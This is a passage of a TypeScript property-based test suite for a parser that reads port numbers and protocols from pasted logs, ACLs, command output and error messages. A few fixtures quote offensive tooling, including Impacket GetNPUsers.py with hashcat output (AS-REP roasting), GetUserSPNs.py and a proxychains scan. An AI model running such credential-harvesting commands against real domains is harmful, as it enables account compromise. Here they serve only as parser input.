  it("reads a port labelled in any letter case", () => {
    fc.assert(
      fc.property(port, anyCase("RemotePort"), (p, label) => {
        expect(found(`ComputerName : web01\n${label} : ${p}`)).toEqual([p]);
      }),
      { numRuns: propertyRuns(200) },
    );
  });
});

describe("pasted text: numbers that are not ports", () => {
  it("are never read as ports, and make a question-looking text a paste", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 65535 }), fc.integer({ min: 0, max: NOT_PORTS.length - 1 }), (n, form) => {
        const write = NOT_PORTS[form] as (n: number) => string;
        // a form's own port (`127.0.0.1:6000`) may be the number drawn
        fc.pre(!new RegExp(`(?<!\\d)${n}(?!\\d)`).test(write(99999)));
        const text = write(n);
        const reading = readPaste(text);
        expect(reading.found.map((f) => f.port)).not.toContain(n);
        expect(parseQuery(book, text).ports.some((r) => r.from <= n && n <= r.to)).toBe(false);
      }),
      { numRuns: propertyRuns(400) },
    );
  });

  it("a process and thread id in brackets, a time with milliseconds, a class and its line are not host and port", () => {
    fc.assert(
      fc.property(fc.integer({ min: 60, max: 65535 }), fc.integer({ min: 60, max: 65535 }), (a, b) => {
        const text = `[14:35:47:589] [${a}:${b}] [INFO] start\n2023-04-23 11:38:40,${a % 1000} client: <INFO> x\n2019-03-16 DEBUG TransportImpl:${b} - Connecting`;
        expect(found(text)).toEqual([]);
      }),
      { numRuns: propertyRuns(200) },
    );
  });
});

describe("pasted text: netsh's excluded port ranges", () => {
  it("`Start Port    End Port`: both ends of each reserved range", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc
            .tuple(fc.integer({ min: 1024, max: 65000 }), fc.integer({ min: 0, max: 200 }))
            .map(([start, width]) => [start, start + width]),
          { minLength: 1, maxLength: 6 },
        ),
        (ranges) => {
          const rows = ranges.map(([start, end]) => `${String(start).padStart(10)}${String(end).padStart(12)}`);
          const text = `netsh interface ipv4 show excludedportrange protocol=tcp\n\nProtocol tcp Port Exclusion Ranges\n\nStart Port    End Port\n----------    --------\n${rows.join("\n")}\n\n* - Administered port exclusions.`;
          expect(new Set(found(text))).toEqual(new Set(ranges.flat()));
        },
      ),
      { numRuns: propertyRuns(200) },
    );
  });
});

describe("pasted text: a table's port column by its header", () => {
  it("PowerShell's `ServerPort`, Docker's `HostPort` and `ContainerPort` columns are ports; a mapping's both", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("ServerPort", "HostPort", "ContainerPort"),
        fc.array(port, { minLength: 1, maxLength: 5 }),
        (header, ports) => {
          const rows = ports.map((p) => `${"10.166.20.136".padEnd(41)}${"6".padEnd(31)}${p}`);
          const text = `${"ServerIpAddress".padEnd(41)}${"ProtocolID".padEnd(31)}${header}\n${"-".repeat(15).padEnd(41)}${"-".repeat(10).padEnd(31)}${"-".repeat(10)}\n${rows.join("\n")}`;
          expect(new Set(found(text))).toEqual(new Set(ports));
        },
      ),
      { numRuns: propertyRuns(200) },
    );
    expect(found("Name   HostPort   ContainerPort\nweb    8080       80")).toEqual([8080, 80]);
    // a sentence naming a column is no table's header: `Set the ListenPort in config`
    expect(found("Set the ListenPort in config\nMaxConn    10000\nBacklog    2048")).toEqual([]);
  });
});

describe("pasted text: proxychains' chain", () => {
  it("each hop glued with dashes (`-<>-127.0.0.1:9050-<><>-10.0.0.5:445-<><>-OK`) is an address and its port", () => {
    fc.assert(
      fc.property(port, fc.ipV4(), port, fc.constantFrom("-<><>-OK", "-<--timeout", "-<--denied"), (proxy, target, p, end) => {
        const text = `Scanning 172.16.5.19 [1000 ports]\n|S-chain|-<>-127.0.0.1:${proxy}-<><>-${target}:${p}${end}`;
        expect(new Set(found(text))).toEqual(new Set([proxy, p]));
      }),
      { numRuns: propertyRuns(200) },
    );
  });
});

describe("pasted text: Cisco access lists", () => {
  const source = fc.constantFrom("any", "host 10.1.2.3", "10.1.2.0 0.0.0.255", "object-group SRC_NETWORK_OBJECT_GROUP");
  const destination = fc.constantFrom("any", "host 198.18.0.1", "10.9.0.0 0.0.255.255", "object-group DST_GROUP");
  const entry = (seq: number, action: string, protocol: string, src: string, bound: string, dst: string, operand: string) =>
    `    ${seq} ${action} ${protocol} ${src}${bound} ${dst} ${operand} (hitcnt=0)`;

  it("`eq` and `range` after a destination give its ports with the entry's protocol; `gt`, `lt`, `neq` give none", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 99 }).map((n) => n * 10),
        fc.constantFrom("permit", "deny"),
        fc.constantFrom("tcp", "udp"),
        source,
        fc.constantFrom("", " gt 1023", " lt 1024", " neq 7"),
        destination,
        fc.oneof(
          port.map((p) => ({ operand: `eq ${p}`, ports: [p] })),
          fc.tuple(port, port).map(([a, b]) => ({ operand: `eq ${a} ${b}`, ports: [a, b] })),
          fc
            .tuple(port, fc.integer({ min: 1, max: 20 }))
            .filter(([a, n]) => a + n <= 65535)
            .map(([a, n]) => ({ operand: `range ${a} ${a + n}`, ports: [a, a + n] })),
        ),
        (seq, action, protocol, src, bound, dst, { operand, ports }) => {
          const boundPort = bound === "" ? undefined : Number(bound.split(" ").pop());
          fc.pre(boundPort === undefined || !ports.includes(boundPort));
          const text = `Extended IP access list access-acl\n${entry(seq, action, protocol, src, bound, dst, operand)}`;
          const read = findPorts(text);
          // (a range is read as a range written out is: `ports 5985-5986`)
          const written = operand.startsWith("range") ? findPorts(`ports ${ports[0]}-${ports[1]}`).map((f) => f.port) : ports;
          expect(new Set(read.map((f) => f.port))).toEqual(new Set(written));
          for (const f of read) expect(f.protocol).toBe(protocol.toUpperCase());
        },
      ),
      { numRuns: propertyRuns(300) },
    );
  });

  it("a port named in an entry stands for its number: IANA's names and Cisco's own", () => {
    const names: [string, number][] = [
      ["www", 80],
      ["domain", 53],
      ["telnet", 23],
      ["snmp", 161],
      ["netbios-ss", 139],
      ["netbios-ns", 137],
      ["sqlnet", 1521],
      ["non500-isakmp", 4500],
      ["bootps", 67],
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(...names),
        fc.constantFrom("tcp", "udp"),
        source,
        destination,
        ([name, p], protocol, src, dst) => {
          const text = `access-list 101 extended permit ${protocol} ${src} ${dst} eq ${name}`;
          expect(findPorts(text).map((f) => `${f.port}/${f.protocol}`)).toEqual([`${p}/${protocol.toUpperCase()}`]);
        },
      ),
      { numRuns: propertyRuns(200) },
    );
    // `eq` outside an access-list entry is no operator: `if x eq 3 then`; nor after another match's keyword or in prose
    expect(found("if $count eq 3 then exit")).toEqual([]);
    expect(found("permit tcp any host 10.0.0.5 eq 3389 ttl eq 10")).toEqual([3389]);
    expect(found("I permit tcp connections and the count eq 5 in our policy; port 3389 open")).toEqual([3389]);
    // Huawei's `destination-port`, ASA's object names and service objects
    expect(found("rule 5 permit tcp source 10.1.1.0 0.0.0.255 destination-port eq 3389")).toEqual([3389]);
    expect(found("access-list OUT extended permit tcp any WEB-SERVER eq https")).toEqual([443]);
    expect(found("service-object tcp eq ssh")).toEqual([22]);
    // a bound (`gt 5985`) is no port there, but the same number written elsewhere still is
    expect(found("deny tcp any any gt 5985\nWinRM answers on 5985")).toEqual([5985]);
  });
});

describe("pasted text: a table whose header ends in a port's column", () => {
  it("the number opening each row is its first column's (a PID), not the port column's", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("DPORT", "PORT", "RPORT"),
        fc.array(fc.tuple(fc.integer({ min: 100, max: 40000 }), fc.constantFrom("curl", "telnet", "sshd", "nc"), port), {
          minLength: 1,
          maxLength: 4,
        }),
        (label, rows) => {
          const pids = new Set(rows.map(([pid]) => pid));
          fc.pre(rows.every(([, , p]) => !pids.has(p)));
          const lines = rows.map(([pid, command, p]) => `${String(pid).padEnd(7)}${command.padEnd(13)}10.0.0.5         ${p}`);
          const text = `# ./tcpv4connect.py\nPID    COMM         DADDR            ${label}\n${lines.join("\n")}`;
          for (const pid of pids) expect(found(text)).not.toContain(pid);
        },
      ),
      { numRuns: propertyRuns(200) },
    );
    // a row the port column was not read from keeps its label's reading, as a label ending a wrapped
    // sentence, or with its colon, still labels the number on the next line
    expect(found("name      port\n\n3389")).toEqual([3389]);
    expect(found("the service is listening on port\n3389 since the update")).toEqual([3389]);
    expect(found("Remote port:\n3389")).toEqual([3389]);
  });
});

describe("pasted text: Windows releases named by their years", () => {
  it("a list of releases (`Windows Server 2008, 2008 R2, 2012 and 2016`) has no port, whatever is said of it", () => {
    const release = fc.tuple(fc.constantFrom(2000, 2003, 2008, 2012, 2016, 2019, 2022, 2025), fc.constantFrom("", " R2", " SP2"));
    fc.assert(
      fc.property(
        fc.constantFrom("Windows Server", "Windows", "Win", "on"),
        fc.array(release, { minLength: 1, maxLength: 5 }),
        fc.constantFrom(", ", " and ", " or ", "/"),
        fc.constantFrom("are open", "are supported", "is blocked", "servers"),
        port,
        (name, releases, joiner, said, p) => {
          fc.pre(p < 1970 || p > 2100);
          // a bare year with no Windows word before it is a release only by its edition
          fc.pre(name !== "on" || releases[0]?.[1] !== "");
          const list = releases.map(([year, edition]) => `${year}${edition}`).join(joiner);
          const text = `The inbound rules on ${name} ${list} ${said}.\nport ${p} is closed`;
          expect(found(text)).toEqual([p]);
        },
      ),
      { numRuns: propertyRuns(300) },
    );
    // a port listed after the releases is still one, a year-like one too
    expect(found("Windows Server 2019 and 3389 are open")).toEqual([3389]);
    expect(found("Windows 2019, 2049 blocked")).toEqual([2049]);
    // Microsoft's servers are released by year too: `SQL 2019`, `Exchange Server 2016`
    expect(found("I cannot connect to a local SQL 2019 Server. TCP/IP is enabled")).toEqual([]);
    expect(found("Exchange Server 2016 CU23 answers on port 443")).toEqual([443]);
    // only a year one of their releases has: `data exchange 2049` is NFS's port; SQL Server's years list on
    expect(found("data exchange 2049 blocked")).toEqual([2049]);
    expect(found("SQL 2082 blocked")).toEqual([2082]);
    expect(found("we run SQL Server 2019, 2017 and 1433 is open")).toEqual([1433]);
    expect(found("Windows Server 2008, 2012 and 3389 are open")).toEqual([3389]);
  });
});

describe("numbers a text marks as something else, in what reads as a question", () => {
  it("a list's number, an operating system's version, a count glued to a word are not ports", () => {
    fc.assert(
      fc.property(
        port,
        fc.integer({ min: 1, max: 12 }),
        fc.constantFrom(
          (n: number, p: number) => `${n}. Opened port ${p} on the server, then I tried again`,
          (n: number, p: number) => `> ${n}) Restart the service\n> then port ${p} answered`,
          (n: number, p: number) => `windows ${n} client can't reach ${p}`,
          (n: number, p: number) => `is ${p} open on Ubuntu ${n}?`,
          (n: number, p: number) => `${n}.error,48.Server refused connection on ${p}`,
          (n: number, p: number) => `web-${String(n).padStart(2, "0")} can't reach ${p}`,
        ),
        (p, n, form) => {
          fc.pre(p !== n && p !== 48 && (p < 1990 || p > 2030));
          const ports = parseQuery(book, form(n, p)).ports;
          expect(ports.some((r) => r.from <= n && n <= r.to)).toBe(false);
          expect(ports.some((r) => r.from <= p && p <= r.to)).toBe(true);
        },
      ),
      { numRuns: propertyRuns(300) },
    );
  });
});

describe("pasted text: a connection whose labels say which end is which", () => {
  it("Cisco IOS's access-list log, `src(port) -> dst(port)` or with colons: the service's end, with the line's protocol", () => {
    fc.assert(
      fc.property(
        fc.ipV4(),
        fc.integer({ min: 1025, max: 65535 }),
        fc.ipV4(),
        fc.constantFrom(22, 53, 135, 139, 445, 3389, 5985),
        fc.constantFrom("tcp", "udp"),
        fc.boolean(),
        (src, client, dst, service, protocol, parenthesised) => {
          const end = (ip: string, p: number) => (parenthesised ? `${ip}(${p})` : `${ip}:${p}`);
          const text = `Sep  1 10:25:29 10.10.10.1 %SEC-6-IPACCESSLOGP: list 102 denied ${protocol} ${end(src, client)} -> ${end(dst, service)}, 1 packet`;
          expect(findPorts(text).map((f) => `${f.port}/${f.protocol}`)).toEqual([`${service}/${protocol.toUpperCase()}`]);
        },
      ),
      { numRuns: propertyRuns(300) },
    );
  });

  it("a spaced arrow with no protocol before it, or between two ports of one host, is a mapping or a change: both ports", () => {
    expect(new Set(found("netsh interface portproxy show all: 0.0.0.0:13389 -> 10.0.0.5:3389"))).toEqual(new Set([13389, 3389]));
    expect(new Set(found("iptables DNAT 203.0.113.5:443 -> 10.0.0.5:8443"))).toEqual(new Set([443, 8443]));
    expect(new Set(found("Changed RDP port: tcp 10.0.0.5:3389 -> 10.0.0.5:3390"))).toEqual(new Set([3389, 3390]));
  });

  it("iptables' SPT and DPT: the destination unless the packet answers from a well-known port", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1024, max: 32767 }), fc.integer({ min: 1024, max: 32767 }), (source, destination) => {
        fc.pre(source !== destination);
        const text = `kernel: RULE 24 -- DROP IN=eth0 OUT= SRC=192.168.0.1 DST=192.168.0.2 LEN=40 PROTO=TCP SPT=${source} DPT=${destination} WINDOW=53920 SYN`;
        expect(found(text)).toEqual([destination]);
      }),
      { numRuns: propertyRuns(200) },
    );
    expect(found("SRC=10.0.0.9 DST=10.0.0.5 PROTO=TCP SPT=443 DPT=51000 ACK")).toEqual([443]);
  });
});

describe("pasted text: records with a fixed field order and no header", () => {
  it("a VPC flow log record (default format) is read as its connection: the service side", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 1023 }),
        fc.integer({ min: 32768, max: 65535 }),
        fc.boolean(),
        (service, client, reply) => {
          const [source, destination] = reply ? [service, client] : [client, service];
          const text = `2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 ${source} ${destination} 6 20 4249 1418530010 1418530070 ACCEPT OK`;
          expect(findPorts(text).map((f) => [f.port, f.protocol])).toEqual([[service, "TCP"]]);
        },
      ),
      { numRuns: propertyRuns(200) },
    );
  });

  it("an ICMP flow record has no port", () => {
    expect(
      found("2 123456789010 eni-1235b8ca123456789 203.0.113.12 172.31.16.139 0 0 1 4 336 1432917027 1432917142 ACCEPT OK"),
    ).toEqual([]);
  });
});

describe("pasted text: two ports then their protocol", () => {
  it("`161/162 udp` names both over that protocol", () => {
    fc.assert(
      fc.property(port, port, fc.constantFrom("udp", "tcp"), (a, b, protocol) => {
        fc.pre(a >= 10 && b >= 10);
        const read = findPorts(`error: no answer\n${a}/${b} ${protocol}\n-t <TARGET IP> -o result.json`);
        expect(new Set(read.map((f) => f.port))).toEqual(new Set([a, b]));
        expect(new Set(read.map((f) => f.protocol))).toEqual(new Set([protocol.toUpperCase()]));
      }),
      { numRuns: propertyRuns(200) },
    );
  });
});

describe("pasted text: two ports before the word port", () => {
  it("`5985/5986 ports are opened` names both, and counts no ports", () => {
    fc.assert(
      fc.property(fc.integer({ min: 10, max: 65535 }), fc.integer({ min: 10, max: 65535 }), (a, b) => {
        const text = `error: the script was launched on all of them, ${a}/${b} ports are opened, but i cannot execute`;
        expect(new Set(found(text))).toEqual(new Set([a, b]));
      }),
      { numRuns: propertyRuns(200) },
    );
  });
});

describe("pasted text: forwards written as mappings", () => {
  it("ssh's -L and -R forwards name both ports", () => {
    fc.assert(
      fc.property(port, port, fc.constantFrom("-L", "-NL", "-fNL", "-R"), (local, remote, flag) => {
        const text = `ssh ${flag} ${local}:db.internal.example:${remote} ec2-user@bastion`;
        expect(found(text)).toEqual(expect.arrayContaining([local, remote]));
      }),
      { numRuns: propertyRuns(200) },
    );
  });

  it("Docker's `-p host:container/proto` names both ports over its protocol", () => {
    fc.assert(
      fc.property(port, port, fc.constantFrom("tcp", "udp"), (host, container, protocol) => {
        const text = `docker run -p ${host}:${container}/${protocol} --name consul progrium/consul -server`;
        const read = findPorts(text);
        expect(new Set(read.map((f) => f.port))).toEqual(new Set([host, container]));
        expect(new Set(read.map((f) => f.protocol))).toEqual(new Set([protocol.toUpperCase()]));
      }),
      { numRuns: propertyRuns(200) },
    );
  });

  it("Docker's published port is read on both sides, not as a client's port", () => {
    fc.assert(
      fc.property(fc.integer({ min: 32768, max: 65535 }), fc.integer({ min: 1, max: 1023 }), (host, container) => {
        const text = `CONTAINER ID  IMAGE  PORTS  NAMES\ne61326ae15d4  nginx  0.0.0.0:${host}->${container}/tcp  web`;
        expect(new Set(found(text))).toEqual(new Set([host, container]));
      }),
      { numRuns: propertyRuns(200) },
    );
  });

  it("both ports of `a => b` and `a -> b` are read (Vagrant's forwarded ports)", () => {
    fc.assert(
      fc.property(port, port, fc.constantFrom("=>", "->"), (a, b, arrow) => {
        const text = `==> default: Forwarding ports...\n    default: ${a} ${arrow} ${b} (adapter 1)\n==> default: Booting VM...`;
        expect(found(text)).toEqual(a === b ? [a] : [a, b]);
      }),
      { numRuns: propertyRuns(200) },
    );
  });
});

describe("a one-line question that names an instance or an address", () => {
  it("keeps its bare port: the question reading stands where the paste reading finds none", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 65535 }),
        fc.constantFrom("i-0abc1234def567890", "10.0.1.25", "sg-903004f8"),
        (p, thing) => {
          fc.pre(p < 1990 || p > 2030);
          expect(parseQuery(book, `why can't I reach ${p} on ${thing}?`).ports).toEqual([{ from: p, to: p }]);
        },
      ),
      { numRuns: propertyRuns(200) },
    );
  });

  it("but an error line stays pasted, its numbers unread", () => {
    expect(parseQuery(book, "ConnectionRefusedError: refused by other side: 10061: i-0abc1234def567890").ports).toEqual([]);
  });
});

describe("pasted text: a client's own port is not the port the text is about", () => {
  it("lsof's arrow, a client's address, tcpdump's pair: the service side is read", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1024, max: 65535 }), fc.integer({ min: 1, max: 1023 }), (client, service) => {
        expect(found(`node 123 u TCP 10.0.0.5:${client}->10.0.0.9:${service} (ESTABLISHED)`)).toEqual([service]);
        expect(found(`RDP ClientIP: 10.0.0.5:${client} connected to 10.0.0.9:${service}`)).toEqual([service]);
      }),
      { numRuns: propertyRuns(200) },
    );
  });

  it("Apache's `[client addr:port]`, its address masked or not, is the client's port", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1024, max: 65535 }), fc.constantFrom("", "10.0.0.5", "::1"), (client, address) => {
        const host = address.includes(":") ? `[${address}]` : address;
        expect(found(`[:error] [pid 8725] [client ${host}:${client}] PHP Warning:  date(): It is not safe`)).toEqual([]);
      }),
      { numRuns: propertyRuns(200) },
    );
    // (only Apache's bracket: `client :5985 connected` writes a port)
    expect(found("client :5985 connected")).toEqual([5985]);
  });

  it("a login log's `from address:port` with an ephemeral port is the client's; a server's or listener's port stays", () => {
    fc.assert(
      fc.property(fc.integer({ min: 32768, max: 65535 }), fc.ipV4(), (client, ip) => {
        expect(found(`[2019-09-08 15:53:19] [admin] failed to login from ${ip}:${client}`)).toEqual([]);
        expect(found(`L 01/01/2014 - 01:25:17: Bad Rcon: "rcon 1146003691" from "${ip}:${client}"`)).toEqual([]);
      }),
      { numRuns: propertyRuns(200) },
    );
    expect(found("active check configuration update from [172.50.1.233:10050] started to fail")).toEqual([10050]);
    // only on a login's line: a reply from a server's dynamic RPC port is the server's
    expect(found("Timeout waiting for response from 10.0.0.10:49667")).toEqual([49667]);
    expect(found("Forwarding from 127.0.0.1:50000 -> 80")).toContain(50000);
  });
});

describe("pasted text: ports named without a number", () => {
  it("a URL's scheme stands for its default port, after ports written out", () => {
    const { schemes } = pasteServices();
    for (const [scheme, named] of schemes) {
      const ports = findPorts(`GET ${scheme}://server01.example/path failed; see 10.0.0.5:5986`);
      expect(ports.map((f) => [f.port, f.how])).toEqual([
        [5986, "written"],
        [named.port, "named"],
      ]);
    }
  });

  it("Windows' errors of a service name it: RPC's endpoint mapper 135, a network path SMB's 445", () => {
    expect(found("Get-WmiObject : The RPC server is unavailable. (Exception from HRESULT: 0x800706BA)")).toEqual([135]);
    expect(found("There are no more endpoints available from the endpoint mapper.")).toEqual([135]);
    expect(found("System.IO.IOException: The network path was not found.\n   at Microsoft.Win32.RegistryKey")).toEqual([445]);
  });

  it("a client's switch names its service: dig's @server is DNS 53, xfreerdp's /g: an RD Gateway's 443", () => {
    expect(found("$ dig hello.example.com @198.41.0.4\n;; connection timed out; no servers could be reached")).toEqual([53]);
    expect(found("xfreerdp /g:rdg.example.com /v:desktop-01\n[ERROR][com.freerdp.core] - failed")).toEqual([443, 3389]);
  });

  it("LDAP with SSL or TLS named is either transport (StartTLS on 389, LDAPS on 636); LDAPS alone is 636, StartTLS 389", () => {
    const lines = [
      "Can't contact LDAP server",
      "ldap_bind: Can't contact LDAP server (-1)",
      "LDAP - Bind error -1 (Can't contact LDAP server)",
    ];
    const tlsWords = ["SSL", "TLS", "ssl", "use_tls => true", "SSL/TLS", "--ssl"];
    fc.assert(
      fc.property(fc.constantFrom(...lines), fc.constantFrom(...tlsWords), fc.boolean(), (line, tls, before) => {
        const text = before ? `Check the ${tls} configuration.\n${line}` : `${line}. Check the ${tls} configuration.`;
        expect(new Set(found(text))).toEqual(new Set([389, 636]));
        // with no TLS word, plain LDAP only; with StartTLS, plain LDAP's port too
        expect(found(line)).toEqual([389]);
        expect(found(`${line} after StartTLS`)).toEqual([389]);
      }),
      { numRuns: propertyRuns(100) },
    );
    expect(found("LDAPS bind failed: Can't contact LDAP server")).toEqual([636]);
    expect(found("LDAPS with TLS 1.2 fails")).toEqual([636]);
    expect(found("LDAP over SSL (LDAPS) not working")).toEqual([636]);
    // LDAP's reading of TLS words is LDAP's alone: other services' TLS names their TLS port, a message word after it too
    expect(found("IMAP SSL error")).toEqual([993]);
    expect(found("WinRM SSL error")).toEqual([5986]);
    expect(found("SIP TLS response timeout")).toEqual([5061]);
  });

  it("Samba's NT_STATUS_ codes (smbclient, winexe, rpcclient) name SMB: 445", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(
          "CONNECTION_REFUSED",
          "LOGON_FAILURE",
          "IO_TIMEOUT",
          "ACCESS_DENIED",
          "BAD_NETWORK_NAME",
          "HOST_UNREACHABLE",
        ),
        fc.constantFrom(
          (code: string) => `ERROR: Failed to open connection - NT_STATUS_${code}`,
          (code: string) => `session setup failed: NT_STATUS_${code}`,
          (code: string) => `do_connect: Connection to 10.114.191.140 failed (Error NT_STATUS_${code})`,
        ),
        (code, line) => {
          expect(found(line(code))).toEqual([445]);
        },
      ),
      { numRuns: propertyRuns(60) },
    );
  });

  it("a service's name is read across a bracket: `[ODBC Driver 17 for SQL Server]Provedor TCP`", () => {
    expect(found("SQLSTATE[08001]: [Microsoft][ODBC Driver 17 for SQL Server]Provedor TCP: No connection could be made")).toEqual(
      [1433],
    );
  });

  it("services named without a port answer for their defaults: iSCSI, TFTP, rpcbind, AMQP, BGP, LPD, Kerberos, DNS's resolv.conf", () => {
    expect(found("iscsiadm: cannot make connection to 192.168.0.3: Connection refused")).toEqual([3260]);
    expect(found("PXE-E32: TFTP open timeout\nPXE-M0F: Exiting Intel Boot Agent.")).toEqual([69]);
    expect(found("showmount -e 172.25.78.130\nRPC: Port mapper failure - RPC: Timed out.")).toEqual([111]);
    expect(found("ERROR amqp.connection: Socket closed while connecting to RabbitMQ")).toEqual([5672]);
    expect(found("calico/node is not ready: BIRD is not ready: BGP not established with 172.17.0.1")).toEqual([179]);
    expect(found("The LPR print monitor failed to open the port named printer01")).toEqual([515]);
    expect(found("KRBMessage_Handling_Error: AS Exchange Error: failed setting AS_REQ PAData for pre-authentication")).toEqual([
      88,
    ]);
    // (DCOM alone is no RPC word: event 10016's permission errors name it with no port)
    expect(
      found(
        "The application-specific permission settings do not grant Local Activation permission for the COM Server application (DCOM error 10016)",
      ),
    ).toEqual([]);
    expect(found("GetNPUsers.py 'EGOTISTICAL-BANK.LOCAL/' -usersfile users.txt -format hashcat -dc-ip 10.10.10.175")).toEqual([
      88,
    ]);
    // Windows' share audit events (5140, 5145) name the share: SMB
    expect(found('<Data Name="IpAddress">10.0.0.100</Data>\n<Data Name="ShareLocalPath">\\??\\C:\\Documents</Data>')).toEqual([
      445,
    ]);
    // (a tool that works over LDAP names no Kerberos: GetUserSPNs)
    expect(found("GetUserSPNs.py corp/u -dc-ip 10.0.0.10\n[+] Connecting to 10.0.0.10, port 389, SSL False")).toEqual([389]);
    // ODBC's driver in braces: `Driver={SQL Server}`
    expect(found('conn.ConnectionString = "Driver={SQL Server};Server=QUERIER;Trusted_Connection=no"')).toEqual([1433]);
    // DCE/RPC's string bindings name their transport: a named pipe is SMB's, TCP the endpoint mapper's
    expect(found("[*] StringBinding ncacn_np:10.10.11.35[\\pipe\\lsarpc]")).toEqual([445]);
    expect(found("Bindings:\n          ncacn_ip_tcp:10.0.0.5")).toEqual([135]);
    // a path's last part names its service whole, and only whole: `/etc/resolv.conf` is DNS's, the agent's
    // configuration file is not the agent (`zabbix_sender` is the server's client)
    expect(found("/usr/bin/zabbix_sender -c /etc/zabbix/zabbix_agentd.conf -k key -o 1\nfailed: [127.0.0.1]:10051")).toEqual([
      10051,
    ]);
    expect(found("there are the correct 5 nameserver entries in `/etc/resolv.conf`:")).toEqual([53]);
  });

  it("a UNC path is SMB over TCP 445", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z][a-z0-9-]{1,14}$/), (host) => {
        expect(findPorts(`net use Z: \\\\${host}\\share failed`).map((f) => [f.port, f.protocol])).toEqual([[445, "TCP"]]);
      }),
      { numRuns: propertyRuns(100) },
    );
  });

  it("each service, named alone in a paste, answers for its default ports; a port written beside it wins", () => {
    for (const service of pasteServices().services) {
      for (const word of service.words) {
        const text = `2026-11-27 12:00:01 ERROR ${word} connection failed`;
        const ports = findPorts(text).filter((f) => f.how === "service");
        expect(
          ports.map((f) => f.port),
          `${service.name} through "${word}"`,
        ).toEqual(expect.arrayContaining([...service.ports]));
        expect(findPorts(`2026-11-27 12:00:01 ERROR ${word} connection to 10.0.0.5:20999 failed`).map((f) => f.port)).toEqual([
          20999,
        ]);
      }
    }
  });

  it("a bare number in prose is a port when it is one of the ports of a service the text names", () => {
    for (const service of pasteServices().services) {
      const word = service.words[0] as string;
      for (const p of [...service.ports, ...(service.secure?.ports ?? []), ...(service.related ?? [])]) {
        const text = `2026-11-27 12:00:01 ERROR ${word} bind failed, switching to ${p} did not help`;
        expect(found(text), `${service.name}'s ${p}`).toContain(p);
      }
    }
    // a number that is none of the named service's ports stays a number, as does one marked as no port
    expect(found("2026-11-27 12:00:01 ERROR ldap bind failed, switching to 4242 did not help")).not.toContain(4242);
    expect(found("2026-11-27 12:00:01 ERROR ldap bind failed after 636 ms")).not.toContain(636);
    expect(found("2026-11-27 12:00:01 ERROR bind failed, switching to 636 did not help")).not.toContain(636);
  });

  it("tcpdump's service names stand for their ports, the client's ephemeral port does not", () => {
    const text =
      "12:00:01.123 IP 10.0.0.5.52718 > 10.0.0.9.kerberos: Flags [S]\n12:00:01.124 IP 10.0.0.5.52719 > dc01.corp.example.ldap: Flags [S]";
    expect(findPorts(text).map((f) => f.port)).toEqual([88, 389]);
  });
});

describe("pasted text: ranking", () => {
  it("a port written as a destination ranks its inbound rules first", () => {
    for (const text of [
      "smb 10.0.3.19:445",
      "Test-NetConnection dc01 -Port 445",
      "Source Port: 52311\nDestination Port: 445",
      "ssh: connect to host 10.0.0.5 port 445: Connection refused",
    ]) {
      const directions = searchRules(book, text).results.map((r) => r.rule.direction);
      expect(directions.length, text).toBeGreaterThan(1);
      expect(directions.indexOf("Out") === -1 || directions.lastIndexOf("In") < directions.indexOf("Out"), text).toBe(true);
    }
  });

  it("the far end of a connection the instance made ranks its outbound rules first", () => {
    const text = "  TCP    10.0.0.5:49712    52.94.1.2:445    ESTABLISHED";
    const directions = searchRules(book, text).results.map((r) => r.rule.direction);
    expect(directions[0]).toBe("Out");
  });

  it("ports written out come before ports only named, and both before a service's default", () => {
    const answer = searchRules(book, "WinRM over https://gw.example/ failed; RDP to 10.0.0.5:3390 refused");
    expect(answer.byPort.map((g) => g.port)).toEqual([3390, 443, 5986]);
  });

  describe("forms read since the twelfth fresh set", () => {
    it("a list of numbers before `ports` names the list's ports, not a count; a thousands separator is a count", () => {
      fc.assert(
        fc.property(fc.uniqueArray(fc.integer({ min: 1000, max: 65535 }), { minLength: 2, maxLength: 4 }), (ports) => {
          expect(found(`Ex: i want to allow only ${ports.join(",")} ports.`)).toEqual(ports);
        }),
        { numRuns: propertyRuns(100) },
      );
      expect(readPaste("Nmap done: scanned 1,000 ports in 3s").found).toEqual([]);
    });

    it("a port after a Chinese or Japanese `listening`, never a count or a bound after it", () => {
      expect(found("guacd启动正常监听4822")).toEqual([4822]);
      expect(found("服务一直監聽8443")).toEqual([8443]);
      expect(found("监听 8443")).toEqual([8443]);
      expect(readPaste("服务监听了3次").found).toEqual([]);
      expect(readPaste("只有 root 可以监听小于1024的端口号").found).toEqual([]);
    });

    it("a setting named by a port word first (`port_nat_t`), not a switch's `port_channel`", () => {
      expect(found("charon {\n  port = 2500\n  port_nat_t =24500\n}")).toEqual([2500, 24500]);
      expect(found("port_https: 8443")).toEqual([8443]);
      expect(readPaste("interface port_channel 1").found).toEqual([]);
      expect([...readPaste("port_timeout = 30").nonPorts]).toEqual([30]);
    });

    it("an issue's number after a repository's name is no port of a question", () => {
      const parsed = parseQuery(book, "restrict RabbitMQ 5672/15672/25672 to cluster nodes (cubecos-private#73)");
      expect(parsed.ports.map((r) => r.from)).not.toContain(73);
      expect(parseQuery(book, "port#8443 on 2019").ports.map((r) => r.from)).toEqual([8443]);
    });

    it("a count's name before a colon is no host: `Number of topics:995`", () => {
      const reading = readPaste("Number of topics:995\nTotal number of notes:4519\nconnect to web:8080 failed");
      expect(reading.found.map((f) => f.port)).toEqual([8080]);
      expect([...reading.nonPorts]).toEqual(expect.arrayContaining([995, 4519]));
      expect(readPaste("No. of sessions:1200").found).toEqual([]);
    });

    it("a port after two protocols joined (`TCP and UDP 389`, `TCP/UDP 53`) is read for both, in the order written", () => {
      fc.assert(
        fc.property(
          fc.integer({ min: 1, max: 65535 }),
          fc.constantFrom(["TCP", "UDP"], ["UDP", "TCP"]),
          fc.constantFrom(" and ", " & ", ", ", "/"),
          (port, [a, b], join) => {
